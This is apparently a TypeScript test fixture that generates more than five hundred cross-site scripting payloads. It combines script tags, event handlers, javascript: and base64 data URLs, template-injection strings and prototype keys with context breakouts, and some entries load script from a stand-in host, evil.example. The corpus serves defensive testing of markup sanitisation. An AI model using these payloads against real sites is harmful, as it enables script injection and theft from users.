/** The word that a script of the corpus would say, if it ever ran. */
export const cry = 'daemun-script-ran';

const call = `alert('${cry}')`;
const encoded = Buffer.from(`<script>${call}</script>`).toString('base64');

const identityOnly = [
  `<script>${call}</script>`,
  `<ScRiPt >${call}</sCrIpT>`,
  `<script/x>${call}</script/x>`,
  `<scr<script>ipt>${call}</scr</script>ipt>`,
  `<script src="data:text/javascript,${call}"></script>`,
  `<script src=//evil.example/x.js></script>`,
  `<script type=module>${call}</script>`,
  `<img src=x onerror=${call}>`,
  `<img/src=x/onerror=${call}>`,
  `<img src="x" onerror="&#97;lert('${cry}')">`,
  `<img src=x:x onerror\n=\n${call}>`,
  `<svg onload=${call}>`,
  `<svg/onload=${call}//`,
  `<svg><script>${call}</script></svg>`,
  `<svg><animate onbegin=${call} attributeName=x dur=1s>`,
  `<svg><use href="data:image/svg+xml,<svg id=x onload=${call}></svg>#x"></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${call}>`,
  `<body onload=${call}>`,
  `<iframe srcdoc="<script>${call}</script>"></iframe>`,
  `<iframe src="javascript:${call}"></iframe>`,
  `<object data="data:text/html;base64,${encoded}"></object>`,
  `<embed src="data:text/html;base64,${encoded}">`,
  `<a href="javascript:${call}" autofocus>x</a>`,
  `<form action="javascript:${call}"><button autofocus>x</button></form>`,
  `<button formaction="javascript:${call}" autofocus>x</button>`,
  `<input autofocus onfocus=${call}>`,
  `<select autofocus onfocus=${call}></select>`,
  `<details open ontoggle=${call}>`,
  `<video><source onerror=${call}></video>`,
  `<audio src=x onerror=${call}></audio>`,
  `<marquee onstart=${call}>x</marquee>`,
  `<style>@import 'javascript:${call}';</style>`,
  `<style onload=${call}></style>`,
  `<link rel=stylesheet href="data:text/css,*{}" onload=${call}>`,
  `<meta http-equiv=refresh content="0;url=javascript:${call}">`,
  `<base href="//evil.example/">`,
  `<template><script>${call}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${call}>">`,
  `<x contenteditable onfocus=${call} autofocus>`,
  `<div style="animation-name:x" onanimationstart=${call}></div>`,
  `javascript:${call}`,
  `JaVaScRiPt:${call}`,
  `java\tscript:${call}`,
  `data:text/html;base64,${encoded}`,
  `{{constructor.constructor("${call}")()}}`,
  `\${${call}}`,
  `#{${call}}`,
  `<%= ${call} %>`,
  `__proto__`,
  `constructor`,
];

/** How a text breaks out of where it stands: an attribute, an element, a comment, a script, a JSON text. */
const breakouts: readonly ((text: string) => string)[] = [
  (text) => text,
  (text) => `">${text}`,
  (text) => `'>${text}`,
  (text) => `</title>${text}`,
  (text) => `</textarea>${text}`,
  (text) => `</script>${text}`,
  (text) => `-->${text}`,
  (text) => `]]>${text}`,
  (text) => `\\"};${text}//`,
  (text) => `<0>${text}</0>`,
  (text) => `{x, select, other {${text}}}`,
  (text) => encodeURIComponent(text),
];

/** More than five hundred texts that run where a page takes a text for markup or an address for a link (attack A36). */
export const scripts: readonly string[] = breakouts.flatMap((breakOut) => identityOnly.map(breakOut));
